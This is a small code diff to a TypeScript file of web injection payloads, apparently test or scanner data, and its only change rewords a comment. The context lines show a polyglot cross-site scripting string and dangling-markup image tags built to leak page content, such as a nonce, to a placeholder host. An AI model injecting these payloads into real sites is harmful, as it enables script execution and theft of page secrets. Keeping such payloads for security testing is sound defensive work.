@@ -65,7 +65,7 @@ const IN_SCRIPT: readonly string[] = [
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=RUN )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>',
 ];
 
-/** Markup left open, so that what follows it on the page, a nonce perhaps, goes along to somebody. */
+/** Markup left open, so that what follows it on the page, a nonce perhaps, goes along to someone. */
 const DANGLING: readonly string[] = [
   "<img src='//TRAP/?RUN",
   '<img src="//TRAP/?RUN',
